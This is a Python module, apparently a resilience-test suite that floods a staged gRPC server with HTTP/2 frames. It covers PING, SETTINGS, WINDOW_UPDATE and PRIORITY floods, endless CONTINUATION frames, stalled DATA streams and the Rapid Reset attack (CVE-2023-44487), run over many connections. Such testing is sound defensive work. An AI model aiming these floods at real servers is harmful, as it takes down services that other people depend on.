"""Frames that carry nothing, as many as can be sent."""

import frames
from floods import Flood, addresses
from stage import request_body

CONNECTIONS = 60
SOURCES = addresses(6)
CHUNK_BYTES = 64 * 1024
# The window stays small, so that it can be opened for long.
HELLO = frames.PREFACE + frames.settings()
# Streams of one connection, for what takes a new one each time; then a new connection begins.
STREAMS = 20_000
STREAMS_A_CHUNK = 500
FIELDS = frames.block(frames.GET_TOKEN)
# What is sent to one call before the next begins: less than the window of a stream.
FRAMES_A_STREAM, LONG_STREAMS = 400, range(1, 800, 2)
# The bytes of one field, below what a list of fields may have.
PIECES = 60_000


def many(frame):
    return [frame * (CHUNK_BYTES // len(frame))]


def flood(stage, chunks, cycle=True, opening=HELLO):
    stage.begin()
    attackers = {"sources": SOURCES, "tls": stage.context()}
    with stage.attacked(Flood(stage.addresses["grpc"], CONNECTIONS, opening, chunks, cycle, **attackers)):
        pass


def begun(stream):
    return frames.frame(frames.HEADERS, frames.END_HEADERS, stream, FIELDS)


def streams(make):
    """Chunks of what `make(stream)` returns, each with some streams."""
    numbers = range(1, 2 * STREAMS, 2)
    parts = (numbers[first : first + STREAMS_A_CHUNK] for first in range(0, STREAMS, STREAMS_A_CHUNK))
    return [b"".join(map(make, part)) for part in parts]


def window_updates(stage):
    """The window of the connection, opened by a byte each time."""
    flood(stage, many(frames.window_update(1)))


def priorities(stage):
    """PRIORITY, of which nobody takes notice any more."""
    flood(stage, many(frames.frame(frames.PRIORITY, 0, 1, bytes((0, 0, 0, 0, 16)))))


def pings(stage):
    """PING, each of which wants an answer."""
    flood(stage, many(frames.frame(frames.PING, payload=bytes(8))))


def settings(stage):
    """SETTINGS, each of which wants an answer."""
    flood(stage, many(frames.settings()))


def empty_data(stage):
    """DATA without a byte, of a call that goes on."""
    flood(stage, [begun(stream) + frames.frame(frames.DATA, 0, stream) * FRAMES_A_STREAM for stream in LONG_STREAMS], False)


def padded_data(stage):
    """The same with padding."""
    padded = b"\1\0"
    data = [begun(stream) + frames.frame(frames.DATA, frames.PADDED, stream, padded) * FRAMES_A_STREAM for stream in LONG_STREAMS]
    flood(stage, data, False)


def continuations(stage):
    """Fields in pieces of a byte, without an end."""
    value = frames.string("a" * PIECES)
    opening = frames.frame(frames.HEADERS, 0, 1, FIELDS + b"\0" + frames.string("piecemeal") + value[:-PIECES])
    flood(stage, [frames.frame(frames.CONTINUATION, 0, 1, b"a") * PIECES], False, HELLO + opening)


def rapid_resets(stage):
    """Calls that are taken back at once (CVE-2023-44487)."""
    flood(stage, streams(lambda stream: frames.call(stream, FIELDS, request_body()) + frames.reset(stream)), False)
